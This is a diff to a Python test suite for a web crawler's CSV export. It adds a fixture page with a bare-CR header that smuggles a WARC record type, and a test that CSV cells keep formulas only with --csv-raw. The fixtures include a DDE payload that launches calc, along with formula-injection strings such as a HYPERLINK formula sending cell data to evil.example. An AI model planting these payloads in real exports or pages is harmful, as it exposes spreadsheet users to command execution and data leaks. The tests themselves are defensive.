@@ -99,7 +99,6 @@ def hostile_site() -> dict[str, bytes]:
             f"ETag: {line}",
             f"Last-Modified: {line}",
             f"X-Robots-Tag: {line}",
-            f"X-Bare: a\rWARC-Type: warcinfo\r{line}",
         )
         links.append(f'<a href="{escape(path)}">{escape(text)}</a>')
         moved = f"/moved{number}"
@@ -109,7 +108,10 @@ def hostile_site() -> dict[str, bytes]:
         links.append(f'<a href="{escape(path)}">{number}</a>')
     found["/smuggled"] = answer(SMUGGLED * 3, "200 OK", "Content-Type: text/plain")
     found["/garbage"] = b"HTTP/1.1 200 OK\r\n=cmd|' /C calc'!A0 <script>\r\n\r\n"
-    links += ['<a href="/smuggled">s</a>', '<a href="/garbage">g</a>']
+    # curl refuses a header with a bare CR, so it has a page of its own.
+    bare = "X-Bare: a\rWARC-Type: warcinfo\rb"
+    found["/bare"] = answer(html(TEXTS[0], ""), "200 OK", "Content-Type: text/html", bare)
+    links += [f'<a href="/{name}">{name}</a>' for name in ("smuggled", "garbage", "bare")]
     found["/"] = answer(html(TEXTS[0], "".join(links)), "200 OK", "Content-Type: text/html")
     return found
 
@@ -201,6 +203,7 @@ def test_no_exported_cell_is_a_formula(hostile: Hostile, figure: Figure) -> None
     for file in hostile.place.rglob("*.csv"):
         with file.open(newline="", encoding="utf-8") as opened_file:
             cells += [(file.name, cell) for row in csv.reader(opened_file) for cell in row]
+    titles = [cell for name, cell in cells if name == "pages.csv"]
     texts = [cell for name, cell in cells if name == "links.csv"]
 
     wrong = [each for each in cells if is_formula(each[1])]
@@ -208,6 +211,35 @@ def test_no_exported_cell_is_a_formula(hostile: Hostile, figure: Figure) -> None
     assert wrong == []
     assert any(cell.startswith("'=HYPERLINK") for cell in texts)
     assert any(cell.startswith("'@SUM") for cell in texts)
+    assert any(cell.startswith("'=HYPERLINK") for cell in titles)
+
+
+def test_raw_cells_are_written_on_request_only(hostile: Hostile, tmp_path: Path) -> None:
+    """With --csv-raw a cell is what the page had; without a CSV file the option is refused."""
+    crawl, pages, folder = str(hostile.data_dir), tmp_path / "raw.csv", tmp_path / "csv"
+    links, items = tmp_path / "links.csv", tmp_path / "items.csv"
+
+    outputs = ["-o", str(pages), "-o", f"links:{links}", "-o", f"items:{items}"]
+    exported = run("export", crawl, *outputs, "--csv-raw")
+    reported = run(
+        "report", crawl, "-o", str(tmp_path / "r.html"), "--csv", str(folder), "--csv-raw"
+    )
+    refused = run("export", crawl, "-o", str(tmp_path / "x.jsonl"), "--csv-raw")
+    without = run("report", crawl, "-o", str(tmp_path / "r2.html"), "--csv-raw")
+
+    said = exported.said + reported.said
+    assert (exported.code, reported.code, refused.code, without.code) == (0, 0, 2, 2), said
+    assert "--csv-raw is for .csv files" in refused.said
+    assert "--csv-raw goes with --csv DIR" in without.said
+    with pages.open(newline="", encoding="utf-8") as file:
+        titles = {row["url"]: row["title"] or None for row in csv.DictReader(file)}
+    rows = jsonl(hostile.place / "pages.jsonl")
+    assert titles == {row["url"]: row["title"] for row in rows}
+    assert {'=HYPERLINK("https://evil.example/"&A1)', "@SUM(1+1)"} <= set(titles.values())
+    for file in (pages, links, items, folder / "broken.csv"):
+        with file.open(newline="", encoding="utf-8") as opened_file:
+            cells = [cell for row in csv.reader(opened_file) for cell in row]
+        assert any(is_formula(cell) for cell in cells), file.name
 
 
 def test_rows_of_every_format_have_the_same_texts(hostile: Hostile) -> None:
